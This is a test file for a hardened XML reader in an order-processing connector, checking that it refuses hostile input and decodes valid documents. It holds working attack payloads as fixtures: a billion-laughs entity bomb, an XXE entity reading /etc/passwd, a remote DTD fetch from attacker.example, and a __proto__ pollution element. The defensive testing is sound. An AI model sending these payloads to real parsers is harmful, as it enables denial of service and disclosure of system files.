import { readXml, type SafeXmlOptions } from '../../../connectors/shared/safe-xml';
import { CXML_DOCTYPES } from '../../../connectors/cxml/cxml-order.parser';

const read = (xml: string | Buffer, options?: SafeXmlOptions) => readXml(Buffer.isBuffer(xml) ? xml : Buffer.from(xml, 'utf8'), options);

function refusal(xml: string | Buffer, options?: SafeXmlOptions) {
  const result = read(xml, options);
  if (result.ok) throw new Error('expected the document to be refused');
  expect(result.issues).toHaveLength(1);
  return { code: result.code, ...result.issues[0]! };
}

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>`;

describe('safe-xml', () => {
  describe('when the input is hostile', () => {
    it('refuses billion laughs, naming its entity declarations', () => {
      const r = refusal(BILLION_LAUGHS);
      expect(r.code).toBe('xml.doctype_forbidden');
      expect(r.message).toBe('DOCTYPE lolz has an internal DTD subset with ENTITY lol, ENTITY lol1, ENTITY lol2, ENTITY lol3, ENTITY lol4 and 5 more; entity declarations are never expanded');
    });

    it('refuses quadratic blowup (one large entity referenced many times)', () => {
      const xml = `<!DOCTYPE kaboom [<!ENTITY a "${'a'.repeat(50_000)}">]><kaboom>${'&a;'.repeat(10_000)}</kaboom>`;
      expect(refusal(xml)).toMatchObject({ code: 'xml.doctype_forbidden', message: expect.stringContaining('ENTITY a;') });
    });

    it('refuses an external entity reading /etc/passwd, naming it', () => {
      const r = refusal('<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>');
      expect(r).toMatchObject({ code: 'xml.doctype_forbidden', path: '/' });
      expect(r.message).toContain('external ENTITY xxe SYSTEM "file:///etc/passwd"');
    });

    it('refuses a parameter entity that would fetch a remote DTD', () => {
      const r = refusal('<!DOCTYPE foo [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]><foo/>');
      expect(r.message).toContain('parameter ENTITY remote SYSTEM "http://attacker.example/evil.dtd"');
    });

    it('refuses an internal subset even without entities', () => {
      expect(refusal('<!DOCTYPE a [<!ELEMENT a ANY>]><a/>')).toMatchObject({ code: 'xml.doctype_forbidden', message: expect.stringContaining('internal DTD subset') });
    });

    it('refuses an external DTD that is not on the format’s list, without fetching it', () => {
      const r = refusal('<!DOCTYPE foo SYSTEM "file:///etc/passwd"><foo/>');
      expect(r.message).toBe('DOCTYPE foo names the external DTD "file:///etc/passwd", which is not allowed (DTDs are never fetched)');
    });

    it('refuses DTD markup hidden after the root start tag', () => {
      const r = refusal('<a><b><!DOCTYPE b [<!ENTITY x "boom">]>&x;</b></a>');
      expect(r).toMatchObject({ code: 'xml.doctype_forbidden', path: '/a/b', message: expect.stringContaining('markup declaration "<!DOCTYPE b') });
    });

    it('refuses a reference to an undeclared entity', () => {
      expect(refusal('<a>&lol9;</a>')).toMatchObject({ code: 'xml.entity_forbidden', message: expect.stringContaining('&lol9;') });
      expect(refusal('<a>&nbsp;</a>').code).toBe('xml.entity_forbidden');
    });

    it('refuses 10k-deep nesting at the depth limit, naming where', () => {
      const r = refusal(`${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`);
      expect(r.code).toBe('xml.too_deep');
      expect(r.message).toBe('elements nest deeper than 64 levels');
      expect(r.path).toBe(`/${Array(65).fill('a').join('/')}`);
    });

    it('refuses a document over the byte limit before reading it', () => {
      expect(refusal(Buffer.alloc(20 * 1024 * 1024 + 1, 0x20))).toEqual({
        code: 'document.too_large',
        path: '/',
        message: 'the document is 20971521 bytes; the limit is 20971520',
      });
      expect(refusal('<a>0123456789</a>', { maxBytes: 10 }).code).toBe('document.too_large');
    });

    it('refuses an element with too many attributes and an over-long value', () => {
      const attributes = Array.from({ length: 100_000 }, (_, i) => `a${i}="v"`).join(' ');
      expect(refusal(`<r><e ${attributes}/></r>`)).toMatchObject({ code: 'xml.too_many_attributes', path: '/r/e', message: 'too many attributes on <e>: more than 64' });
      expect(refusal(`<r><e>${'x'.repeat(101)}</e></r>`, { maxTextLength: 100 })).toMatchObject({ code: 'xml.value_too_long', path: '/r/e' });
      expect(refusal(`<r><e id="${'x'.repeat(70_000)}"/></r>`)).toMatchObject({ code: 'xml.value_too_long', path: '/r/e/@id' });
    });

    it('refuses an element named __proto__ without touching the prototype', () => {
      expect(refusal('<r><__proto__><polluted>yes</polluted></__proto__></r>')).toMatchObject({ code: 'xml.malformed', message: expect.stringContaining('__proto__') });
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    });
  });

  describe('when the input is broken', () => {
    it.each([
      ['a truncated document', '<Order><Line>1</Line><Line>2', /ends inside <Line> with 2 elements open \(truncated\?\)/],
      ['a document cut inside a tag', '<Order><Line quantity="1', /ends inside the start tag <Line with 2 elements open/],
      ['a mismatched end tag', '<a><b></a>', /end tag <\/a> where <\/b> was expected/],
      ['text after the root', '<a></a>junk', /text after the root element/],
      ['text after a self-closing root', '<a/>junk', /text after the root element/],
      ['a comment left open after the root', '<a/><!-- cut', /ends inside a comment with 0 elements open/],
      ['two root elements', '<a/><b/>', /a second root element/],
      ['a repeated attribute', '<a q="1" q="1000"/>', /attribute q is repeated on <a>/],
      ['an unquoted attribute', '<a q=1/>', /attribute q of <a> is not quoted/],
      ['"<" in an attribute value', '<a q="<b>"/>', /contains "<"/],
      ['a bare ampersand', '<a>fish & chips</a>', /&/],
      ['a character reference that is no XML character', '<a>&#0;</a>', /not an XML character/],
    ])('refuses %s as xml.malformed', (_name, xml, message) => {
      expect(refusal(xml)).toMatchObject({ code: 'xml.malformed', message: expect.stringMatching(message) });
    });

    it('refuses bytes that are not valid in the encoding', () => {
      expect(refusal(Buffer.from([0x3c, 0x61, 0x3e, 0xff, 0xfe, 0x3c, 0x2f, 0x61, 0x3e])).code).toBe('xml.encoding_invalid');
    });

    it('refuses an encoding it cannot decode', () => {
      expect(refusal('<?xml version="1.0" encoding="X-MAC-KLINGON"?><a/>')).toMatchObject({ code: 'xml.encoding_unsupported', message: expect.stringContaining('X-MAC-KLINGON') });
    });
  });

  describe('when the input is well-formed', () => {
    it('keeps values as the exact strings written', () => {
      const result = read('<r><sku>007</sku><price>12.50</price><exp>1e3</exp><flag>true</flag><q unit="EA" n="0012"/></r>');
      if (!result.ok) throw new Error('expected a document');
      expect(['sku', 'price', 'exp', 'flag'].map((n) => result.root.textOf(n))).toEqual(['007', '12.50', '1e3', 'true']);
      expect(result.root.child('q')?.attr('n')).toBe('0012');
    });

    it('reads the five XML entities and character references, in text and attributes', () => {
      const result = read('<r a="&quot;x&quot; &amp; &#x4E2D;">&lt;&gt;&amp;&apos;&quot; &#20013;&#x6587; &#x1F600;</r>');
      if (!result.ok) throw new Error('expected a document');
      expect(result.root.text()).toBe(`<>&'" 中文 😀`);
      expect(result.root.attr('a')).toBe('"x" & 中');
    });

    it('accepts the cXML external-DTD label it is told to allow, in either host spelling', () => {
      for (const host of ['xml.cxml.org', 'xml.cXML.org']) {
        const xml = `<?xml version="1.0"?>\n<!DOCTYPE cXML SYSTEM "http://${host}/schemas/cXML/1.2.050/cXML.dtd">\n<cXML payloadID="1"/>`;
        expect(read(xml, { allowedDoctypes: CXML_DOCTYPES }).ok).toBe(true);
        expect(refusal(xml).code).toBe('xml.doctype_forbidden');
      }
      const withSubset = '<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.050/cXML.dtd" [<!ENTITY x "y">]><cXML/>';
      expect(refusal(withSubset, { allowedDoctypes: CXML_DOCTYPES }).message).toContain('internal DTD subset with ENTITY x');
    });

    it('removes namespace prefixes and reports the root namespace', () => {
      const result = read('<ubl:Order xmlns:ubl="urn:oasis:names:specification:ubl:schema:xsd:Order-2" xmlns:cbc="urn:cbc"><cbc:ID>1</cbc:ID></ubl:Order>');
      if (!result.ok) throw new Error('expected a document');
      expect(result.root.name).toBe('Order');
      expect(result.rootNamespace).toBe('urn:oasis:names:specification:ubl:schema:xsd:Order-2');
      expect(result.root.textOf('ID')).toBe('1');
    });

    it.each([
      ['ISO-8859-1', Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><a>Müller</a>', 'latin1'), 'Müller'],
      ['GB18030', Buffer.concat([Buffer.from('<?xml version="1.0" encoding="GB18030"?><a>'), Buffer.from([0xd6, 0xd0, 0xce, 0xc4]), Buffer.from('</a>')]), '中文'],
      ['UTF-16LE with a byte-order mark', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<a>中文</a>', 'utf16le')]), '中文'],
      ['UTF-8 with a byte-order mark', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('<a>中文</a>')]), '中文'],
    ])('decodes %s', (_name, body, text) => {
      const result = read(body);
      expect(result.ok && result.root.text()).toBe(text);
    });

    it('names elements by XPath with positions among same-named siblings', () => {
      const result = read('<r><item n="1"/><item n="2"><x/></item><one/></r>');
      if (!result.ok) throw new Error('expected a document');
      const [, second] = result.root.children('item');
      expect(second?.path).toBe('/r/item[2]');
      expect(second?.attrPath('n')).toBe('/r/item[2]/@n');
      expect(result.root.child('item')?.path).toBe('/r/item[1]');
      expect(result.root.child('one')?.path).toBe('/r/one');
      expect(result.root.pathAlong('item', 'x', 'missing', '@id')).toBe('/r/item[1]/x/missing/@id');
    });
  });
});
